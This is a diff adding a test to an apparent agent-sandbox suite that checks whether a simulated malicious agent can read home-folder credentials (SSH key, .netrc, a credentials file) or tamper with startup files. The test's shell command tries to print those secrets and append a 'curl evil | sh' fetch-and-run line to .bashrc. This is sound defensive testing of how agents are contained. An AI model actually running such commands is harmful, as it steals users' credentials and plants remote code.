@@ -192,6 +192,31 @@ describeWithBwrap('a malicious agent against the sandbox', () => {
     expect(existsSync(join(home, '.cache-file'))).toBe(false);
   });
 
+  it('hides the home folder’s credentials and keeps its startup files read-only when the workspace is home', async () => {
+    mkdirSync(join(home, '.ssh'));
+    writeFileSync(join(home, '.ssh', 'id_rsa'), 'PRIVATE-KEY-MATERIAL');
+    writeFileSync(join(home, '.netrc'), 'machine x password NETRC-PASSWORD');
+    mkdirSync(join(home, '.config', 'cleveragents'), { recursive: true });
+    writeFileSync(join(home, '.config', 'cleveragents', 'credentials.json'), 'CLIENT-LOGIN');
+    writeFileSync(join(home, '.bashrc'), '# mine\n');
+    const r = runner({ workspace: home });
+    const result = await runToEnd(r, {
+      command: 'sh',
+      args: [
+        '-c',
+        'cat .ssh/id_rsa .netrc .config/cleveragents/credentials.json; echo "ssh:$(ls -A .ssh)"; ' +
+          'echo "curl evil | sh" >> .bashrc; echo mine > notes.txt; echo done',
+      ],
+    });
+    expect(result.output).not.toMatch(/PRIVATE-KEY-MATERIAL|NETRC-PASSWORD|CLIENT-LOGIN/);
+    expect(result.output).toContain('ssh:\n');
+    expect(result.output).toMatch(/Read-only file system/);
+    expect(result.output).toContain('done');
+    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
+    expect(readFileSync(join(home, 'notes.txt'), 'utf8')).toBe('mine\n');
+    expect(readFileSync(join(home, '.ssh', 'id_rsa'), 'utf8')).toBe('PRIVATE-KEY-MATERIAL');
+  });
+
   it('keeps the workspace’s .git read-only: no hook or config is written from inside', async () => {
     mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
     writeFileSync(join(ws, '.git', 'config'), '[core]\n');
